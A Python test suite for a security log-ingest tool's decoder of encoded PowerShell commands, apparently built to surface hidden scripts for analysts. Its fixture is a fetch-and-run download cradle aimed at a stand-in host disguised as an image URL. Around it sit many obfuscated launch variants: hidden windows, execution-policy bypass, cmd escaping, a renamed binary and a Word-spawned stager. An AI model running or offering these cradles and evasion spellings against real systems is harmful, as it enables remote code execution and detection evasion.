"""The PowerShell ``-EncodedCommand`` rule: every spelling PowerShell accepts, nothing else, PowerShell only."""

from __future__ import annotations

import base64

import pytest

from ingest.powershell import decode_powershell_command, is_powershell_image

# -- PowerShell -EncodedCommand --------------------------------------------------

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/a.png')"
B64 = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
ALL_PREFIXES = ["encodedcommand"[:n] for n in range(1, len("encodedcommand") + 1)]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("name", [*ALL_PREFIXES, "ec"])
@pytest.mark.parametrize("case", [str.lower, str.upper, str.title])
def test_every_prefix_of_encodedcommand_and_ec_decode(name: str, case) -> None:
    assert decode_powershell_command(f"{PS} -nop -w hidden -{case(name)} {B64}") == SCRIPT


@pytest.mark.parametrize(
    "command_line",
    [
        f"powershell -e {B64}",
        f"powershell.exe -ec {B64}",
        f"powershell -ENC {B64}",
        f"powershell -eNcOdEdCoMmAnD {B64}",
        f"powershell /enc {B64}",
        f"powershell /ec {B64}",
        f"powershell --enc {B64}",
        f"powershell \u2013enc {B64}",  # en dash
        f"powershell \u2014enc {B64}",  # em dash
        f"powershell \u2015ec {B64}",  # horizontal bar
        f'powershell "-enc" {B64}',  # the switch in quotes is the same argument
        f'powershell -enc "{B64}"',  # double quotes are argument syntax
        f'powershell -enc "{B64[:20]} {B64[20:40]}\t{B64[40:]}"',  # .NET skips white space in base64
        f"powershell -enc   {B64}   -noexit",
        f"powershell -ep bypass -enc {B64}",
        f"powershell -ex bypass -e {B64}",
        f"powershell -version 2 -enc {B64}",  # downgrade: -version takes a value
        f"powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {B64}",
        f'"{PS}" -noP -sta -w 1 -enc  {B64}',
        rf"C:\Program Files\PowerShell\7\pwsh.exe -ec {B64}",
        rf'"C:\Program Files\PowerShell\7\pwsh.exe" -ec {B64}',
        f"PWSH -e {B64}",
        rf"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell_ISE.EXE -enc {B64}",
    ],
)
def test_spellings_powershell_accepts_are_decoded(command_line: str) -> None:
    assert decode_powershell_command(command_line) == SCRIPT


@pytest.mark.parametrize(
    "command_line",
    [
        f"powershell -ex {B64}",  # -ExecutionPolicy
        f"powershell -ep {B64}",  # -ExecutionPolicy's alias
        f"powershell -ea {B64}",  # -EncodedArguments
        f"powershell -encodeda {B64}",
        f"powershell -encodedcommandx {B64}",
        f"powershell -EncodedCommand:{B64}",  # no such switch: PowerShell fails on it
        f"powershell -enc '{B64}'",  # single quotes reach .NET and are not base64
        f"powershell -enc {B64[:20]} {B64[20:]}",  # unquoted split: PowerShell refuses the second part
        f"powershell -c echo -enc {B64}",  # after -Command the rest is the script's text
        f'powershell -command "Write-Host -enc {B64}"',
        f"powershell -f run.ps1 -enc {B64}",
        f"powershell run.ps1 -enc {B64}",  # a free argument starts the command or file
        f"powershell -enc {B64} -c dir",  # a second command: PowerShell refuses it
        f"powershell -enc {B64} extra",
        "powershell -enc",
        f"powershell enc {B64}",
        f"powershell e{B64}",
        f"cmd /c echo -e {B64}",  # not PowerShell
    ],
)
def test_spellings_powershell_refuses_are_not_decoded(command_line: str) -> None:
    assert decode_powershell_command(command_line) is None


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (_b64("IEX"), "IEX"),  # 'SQBFAFgA': no padding needed
        (_b64("IEX1"), "IEX1"),  # 'SQBFAFgAMQA=': one '='
        (_b64("IEX1").rstrip("="), "IEX1"),  # unpadded, cut short by a logger
        (_b64("Get-Date"), "Get-Date"),
        (_b64("IEX12"), "IEX12"),  # 'SQBFAFgAMQAyAA==': two '='
        (_b64("IEX12").rstrip("="), "IEX12"),
        (_b64("IEX12")[:-1], "IEX12"),
        (_b64("IEX1") + "=", None),  # too much padding
        (_b64("IEX12")[:-3], None),  # one base64 character left over: no byte
        ("SQBF-AFgA", None),  # base64url characters: .NET refuses them
        ("SQBF_AFgA", None),
        ("", None),
    ],
)
def test_padding_variants(payload: str, expected: str | None) -> None:
    assert decode_powershell_command(f"powershell -enc {payload}" if payload else "powershell -enc") == expected


@pytest.mark.parametrize(
    "payload",
    [
        base64.b64encode(b"Hello World!!!").decode(),  # ASCII read as UTF-16LE: CJK-range garbage
        base64.b64encode(bytes(range(32)) * 2).decode(),  # control characters
        base64.b64encode("\x01\x02\x03\x04IEX".encode("utf-16-le")).decode(),
        base64.b64encode(b"\x00\xd8A\x00B\x00C\x00").decode(),  # lone high surrogate
        base64.b64encode(bytes(range(256))).decode(),
        base64.b64encode("中文字符串的脚本".encode("utf-16-le")).decode(),  # no PowerShell syntax
    ],
)
def test_garbage_payloads_are_not_decoded(payload: str) -> None:
    assert decode_powershell_command(f"powershell.exe -enc {payload}") is None


def test_a_script_with_a_few_odd_characters_is_still_decoded() -> None:
    # one NUL or non-ASCII word must not hide a real script from the analyst
    script = "Write-Host 'héllo wörld'\x00; " + SCRIPT
    assert decode_powershell_command(f"powershell -enc {_b64(script)}") == script


MIXED = "IEX $a # " + "\u00e9\u00e8" * 4
"""A script about half ASCII: text for PowerShell, too little ASCII for another program."""


@pytest.mark.parametrize(
    ("executable", "is_powershell"),
    [
        (PS, True),
        ("pwsh", True),
        ("/usr/bin/pwsh", True),
        ("POWERSHELL.EXE", True),
        (r"C:\Users\Public\svch0st.exe", False),  # a renamed copy (T1036.003)
        (r"C:\Windows\System32\wscript.exe", False),
        ("powershell.exe.bak", False),
    ],
)
def test_any_image_decodes_and_the_image_sets_how_strict(executable: str, is_powershell: bool) -> None:
    # the command line's own program is powershell; the image given wins
    assert decode_powershell_command(f"powershell -enc {B64}", executable) == SCRIPT
    mixed = decode_powershell_command(f"powershell -enc {_b64(MIXED)}", executable)
    assert mixed == (MIXED if is_powershell else None)


def test_the_command_line_program_sets_how_strict_when_no_executable() -> None:
    assert decode_powershell_command(f"whatever.exe -enc {B64}") == SCRIPT
    assert decode_powershell_command(f"whatever.exe -enc {_b64(MIXED)}") is None
    assert decode_powershell_command(f"powershell.exe -enc {_b64(MIXED)}") == MIXED
    assert decode_powershell_command(f"whatever.exe -enc {_b64(MIXED)}", PS) == MIXED


def test_is_powershell_image() -> None:
    assert [is_powershell_image(p) for p in (PS, '"pwsh.exe"', "powershell_ise", None, "", "ps.exe")] == [
        True, True, True, False, False, False,
    ]


# -- cmd.exe /c powershell ... ----------------------------------------------------------------

CMD = r"C:\Windows\System32\cmd.exe"


@pytest.mark.parametrize(
    "command_line",
    [
        f"cmd.exe /c powershell -enc {B64}",
        f"cmd /C powershell.exe -nop -w hidden -enc {B64}",
        f'{CMD} /c "powershell -nop -w hidden -enc {B64}"',
        f'"{CMD}" /k "{PS}" -enc {B64}',
        f"cmd /r pwsh -ec {B64}",
        f"cmd.exe /q /c powershell -enc {B64}",
        f"cmd.exe /q/c powershell -enc {B64}",
        f'cmd /V:ON /E:ON /c "set a=1&& powershell -enc {B64}"',
        f"cmd /c echo hi & powershell -enc {B64}",
        f"cmd /c ver | powershell -enc {B64}",
        f'cmd /c start "" /min powershell -enc {B64}',
        f'cmd /c start /b "" "{PS}" -enc {B64}',
        rf'cmd /c start /d "C:\Program Files" powershell -enc {B64}',
        f"cmd /c call powershell -enc {B64}",
        f"cmd /c @powershell -enc {B64}",
        f"cmd.exe /c p^ower^shell -e^nc {B64}",  # cmd's escape character
        f"cmd /c cmd /c powershell -enc {B64}",
        # INGF #4: %COMSPEC% unexpanded (a launcher's or consumer's line), nested quotes around program and payload
        f"%COMSPEC% /c powershell -enc {B64}",
        f"%ComSpec% /b /c start /b /min powershell -nop -w hidden -enc {B64}",
        f"cmd /c %COMSPEC% /k powershell -enc {B64}",
        f'cmd.exe /c ""powershell" -nop -enc "{B64}""',
        f'"{CMD}" /c ""{PS}" -w hidden -e "{B64}""',
    ],
)
def test_powershell_run_through_cmd_is_decoded_on_the_cmd_process(command_line: str) -> None:
    assert decode_powershell_command(command_line, CMD) == SCRIPT
    assert decode_powershell_command(command_line) == SCRIPT


@pytest.mark.parametrize(
    "command_line",
    [
        f"cmd /c echo -enc {B64}",  # not PowerShell: echo's text
        "cmd /c echo -e SGVsbG8gV29ybGQhISE=",
        f"cmd /c powershell -c echo -enc {B64}",  # -Command takes the rest: the script's text
        f"cmd /c powershell -enc {B64} extra",  # PowerShell refuses a second command
        f'cmd /c "echo powershell -enc {B64}"',
        f"cmd /c notepad.exe -enc {B64}",
        f"cmd powershell -enc {B64}",  # no /c: cmd runs nothing
        "cmd /c",
        f"explorer.exe /c powershell -enc {B64}",  # only cmd reads /c so
    ],
)
def test_cmd_lines_that_run_no_encoded_powershell_are_not_decoded(command_line: str) -> None:
    assert decode_powershell_command(command_line, CMD) is None


def test_cmd_decoding_through_the_windows_parser_and_its_parent_field() -> None:
    from ingest.parsers.base import ParseContext
    from ingest.parsers.windows import parsers

    record = {
        "@timestamp": "2024-03-05T10:00:05.000Z", "agent": {"type": "winlogbeat", "version": "8.11.0"},
        "winlog": {"computer_name": "WS-1", "event_id": "1", "channel": "Microsoft-Windows-Sysmon/Operational",
                   "event_data": {"UtcTime": "2024-03-05 10:00:00.123", "ProcessId": "42", "Image": CMD,
                                  "CommandLine": f'cmd.exe /c "powershell -nop -enc {B64}"',
                                  "ParentImage": r"C:\Program Files\Microsoft Office\WINWORD.EXE",
                                  "ParentCommandLine": "WINWORD.EXE /n invoice.doc"}},
    }
    (parser,) = [p for p in parsers() if p.sniff(record)]
    (event,) = parser.parse(record, ParseContext(origin="t:1"))
    assert event.fields["process.command_line_decoded"] == SCRIPT


@pytest.mark.parametrize("parent", [
    f'cmd.exe /c "powershell -nop -enc {B64}"',
    f'cmd.exe /c "%COMSPEC% /c powershell -nop -enc {B64}"',  # INGF #4, projection 18: cmd expands it
])
def test_the_cmd_parent_of_powershell_carries_the_stager_in_the_graph(journal, graph, parent: str) -> None:
    from ingest.pipeline import ingest_records

    record = {
        "@timestamp": "2024-03-05T10:00:05.000Z", "agent": {"type": "winlogbeat", "version": "8.11.0"},
        "winlog": {"computer_name": "WS-1", "event_id": "1", "channel": "Microsoft-Windows-Sysmon/Operational",
                   "event_data": {"UtcTime": "2024-03-05 10:00:00.123", "ProcessId": "42", "Image": PS,
                                  "CommandLine": f"powershell -nop -enc {B64}", "ParentImage": CMD,
                                  "ParentCommandLine": parent}},
    }
    assert ingest_records([record], store=graph, journal=journal).total.accepted == 1
    by_command = {entity.value: entity for entity in graph.iter_entities("process")}
    assert by_command[parent].props["decoded_command"] == SCRIPT

